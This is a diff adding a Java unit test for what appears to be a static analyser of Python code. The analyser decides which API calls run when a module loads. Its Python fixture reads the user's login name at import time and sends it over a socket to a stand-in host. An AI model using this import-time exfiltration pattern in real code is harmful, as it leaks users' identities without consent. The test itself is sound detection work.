@@ -159,6 +159,36 @@ class ApiResolutionTest {
     }
 
     @Test
+    void functionsThatCodeRunningOnLoadCallsRunOnLoadToo() {
+        ModuleAnalysis a = source("""
+                import os, socket
+                def send(data):
+                    socket.create_connection(('203.0.113.9', 80)).send(data)
+                def collect():
+                    send(os.getlogin())
+                class Beacon:
+                    def __init__(self):
+                        os.uname()
+                    def later(self):
+                        os.getcwd()
+                def unused():
+                    os.getppid()
+                def main():
+                    os.getpid()
+                collect()
+                Beacon()
+                """);
+        // collect is called at module level and defined after send, which it calls: the order does not matter
+        assertThat(call(a, "os.getlogin").moduleLevel()).isTrue();
+        assertThat(call(a, "socket.create_connection").moduleLevel()).isTrue();
+        assertThat(call(a, "os.uname").moduleLevel()).isTrue();
+        assertThat(call(a, "os.getcwd").moduleLevel()).isFalse();
+        assertThat(call(a, "os.getppid").moduleLevel()).isFalse();
+        assertThat(call(a, "os.getpid").moduleLevel()).isFalse();
+        assertThat(a.apiUses()).extracting(ApiUse::api).containsOnlyOnce("os.getlogin", "socket.create_connection");
+    }
+
+    @Test
     void callsRecordKeywordNamesSnippetAndLine() {
         ModuleAnalysis a = source("import subprocess\n\nsubprocess.run(['id'],\n    shell=True, capture_output=True)\n");
         ApiUse u = call(a, "subprocess.run");
